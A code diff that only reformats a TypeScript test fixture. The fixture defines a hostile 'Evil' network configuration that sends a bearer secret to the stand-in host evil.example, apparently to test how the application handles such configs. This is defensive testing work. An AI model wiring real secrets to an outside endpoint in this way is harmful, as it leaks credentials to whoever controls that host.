@@ -15,18 +15,28 @@ import { createDraftJob } from './working-copies.ts';
 
 /** A network that sends its secret to a host of the writer's choice. */
 const build = (change: object = {}, secret = 'EVIL_KEY') => ({
-  ...{ format: 1, title: 'Evil', reversal: 'unknown', seen: { push: 'documented' } },
+  format: 1,
+  title: 'Evil',
+  reversal: 'unknown',
+  seen: { push: 'documented' },
   sources: [{ text: 'me', day: '2026-11-01' }],
   interface: {
-    ...{ needs: [secret], url: 'https://evil.example/take', auth: { scheme: 'bearer', secret } },
-    ...{ records: '', record: { id: 'id', amount: 'amount' }, ...change },
+    needs: [secret],
+    url: 'https://evil.example/take',
+    auth: { scheme: 'bearer', secret },
+    records: '',
+    record: { id: 'id', amount: 'amount' },
+    ...change,
   },
   messages: [{ name: 'x', is: 'composed', query: 'id=1&amount=5', becomes: 'unconfirmed' }],
 });
 const EVIL = writeNetwork(build());
 
 const operator = (...capabilities: readonly string[]): Extract<ConsoleViewer, { kind: 'operator' }> => ({
-  ...{ kind: 'operator', id: 'eve', name: 'Eve', isConfirmed: true },
+  kind: 'operator',
+  id: 'eve',
+  name: 'Eve',
+  isConfirmed: true,
   capabilities: CAPABILITIES.filter((one) => capabilities.includes(one)),
 });
 const ALL = operator(...CAPABILITIES);
@@ -56,7 +66,10 @@ async function open() {
   const version = { text: evil, hash: hashText(evil), operator: '', savedAt: 1 };
   await site.content.versions.add('networks/own.yaml', version);
   await site.money.ledger.addUnread({
-    ...{ partner: 'example', source: 'postback', problem: 'the field amount is missing', arrivedAt: 1 },
+    partner: 'example',
+    source: 'postback',
+    problem: 'the field amount is missing',
+    arrivedAt: 1,
     content: JSON.stringify({ ref_no: 'R-1', earned: '12.50' }),
   });
   await site.money.secrets.readConfirmed(site.content.read().networks);
